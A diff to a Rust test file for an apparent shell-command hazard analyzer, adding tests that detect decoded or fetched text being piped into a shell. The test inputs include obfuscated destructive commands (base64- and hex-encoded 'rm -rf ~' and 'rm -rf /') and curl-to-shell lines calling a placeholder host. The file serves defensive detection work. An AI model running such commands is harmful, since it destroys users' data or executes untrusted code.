@@ -67,6 +67,12 @@ enum E {
     Env(&'static str),
     /// The command running this program has these arguments.
     Args(&'static str, &'static [&'static str]),
+    /// These paths are mentioned inside code the analysis does not follow.
+    M(&'static [&'static str]),
+    /// No command mentions any path.
+    NoM,
+    /// This hazard is not reported.
+    NoHk(HazardKind),
 }
 
 use E::*;
@@ -187,6 +193,16 @@ fn check(text: &str, expects: &[E]) {
                 .commands
                 .iter()
                 .any(|c| c.effects.influences_env.iter().any(|x| x == name)),
+            M(paths) => {
+                let all = values(
+                    a.commands
+                        .iter()
+                        .flat_map(|c| c.effects.mentions.iter().map(|w| w.value.clone())),
+                );
+                paths.iter().all(|p| all.iter().any(|x| x == p))
+            }
+            NoM => a.commands.iter().all(|c| c.effects.mentions.is_empty()),
+            NoHk(k) => !a.hazards.iter().any(|h| h.kind == *k),
             Args(p, args) => {
                 one(&a, p, text)
                     .args
@@ -1944,3 +1960,168 @@ t!(
     "echo 'ls' > s.sh; echo 'rm -f z' >> s.sh; sh s.sh",
     [D(&["z"])]
 );
+
+// ---------------------------------------------------------------------------------
+// Decode-to-exec: text decoded or transformed, then run.
+// ---------------------------------------------------------------------------------
+t!(
+    dx_base64_pipe_sh,
+    "echo cm0gLXJmIH4= | base64 -d | sh",
+    [H(HazardKind::DecodeToExec), NoHk(HazardKind::FetchToExec)]
+);
+t!(
+    dx_base64_long_bash,
+    "echo Y3VybA== | base64 --decode | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_base32,
+    "echo OJWSALLSMYQH4=== | base32 -d | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_herestring_decoder,
+    "base64 -d <<< cm0gLXJmIC8= | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_eval_substitution,
+    "eval \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_bash_c_substitution,
+    "bash -c \"$(base64 -d <<< Y2F0)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_process_substitution,
+    "bash <(echo cm0= | base64 -d)",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_herestring_of_substitution,
+    "sh <<< \"$(echo cm0= | base64 -d)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_xxd_revert,
+    "echo 726d202d7266207e | xxd -r -p | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_rev,
+    "echo '~ fr- mr' | rev | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_tr_rot13,
+    "echo 'ez -es ~' | tr 'a-z' 'n-za-m' | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_hex,
+    "printf '\\x72\\x6d\\x20\\x7e' | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_octal_eval,
+    "eval \"$(printf '\\143\\141\\164')\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_b_argument,
+    "printf '%b' '\\x72\\x6d' | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_openssl_enc,
+    "openssl enc -d -base64 -in p.txt | sh",
+    [H(HazardKind::DecodeToExec), R(&["p.txt"])]
+);
+t!(
+    dx_openssl_base64,
+    "openssl base64 -d <<< cm0= | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_gunzip_stdout,
+    "gunzip -c p.gz | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(dx_zcat, "zcat p.gz | bash", [H(HazardKind::DecodeToExec)]);
+t!(
+    dx_bzip2_dc,
+    "bzip2 -dc p.bz2 | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_xz_stdin,
+    "xz -d < p.xz | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_uudecode,
+    "uudecode -o /dev/stdout p.uu | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_python_stdin,
+    "echo aW1w | base64 -d | python3",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_file_then_run,
+    "base64 -d payload.b64 > run.sh && bash run.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_pipe_to_file_then_run,
+    "echo cm0= | base64 -d > run.sh; sh run.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_file_then_stdin,
+    "base64 -d p.b64 > r.sh; sh < r.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_gunzip_file_then_run,
+    "gunzip setup.sh.gz && sh setup.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_fetch_names_the_hazard,
+    "curl -s https://x.example | base64 -d | sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    fx_tee_then_run,
+    "curl -s https://x.example | tee i.sh > /dev/null; bash i.sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    dx_not_into_data_tools,
+    "echo eyJ9 | base64 -d | jq . && gzip -dc a.tgz | tar x",
+    [NoH]
+);
+t!(
+    dx_plain_printf_is_not_decoding,
+    "printf 'ls\\n' | sh",
+    [NoH]
+);
+t!(dx_encoding_is_not_decoding, "base64 README.md | sh", [NoH]);
+
+#[test]
+fn dx_hazard_says_what_runs() {
+    let a = analyze("echo cm0= | base64 -d | sh");
+    let h = a
+        .hazards
+        .iter()
+        .find(|h| h.kind == HazardKind::DecodeToExec)
+        .unwrap_or_else(|| panic!("no hazard: {a:#?}"));
+    assert_eq!(
+        h.detail,
+        "decoded text is piped into sh, which runs it as code"
+    );
+}
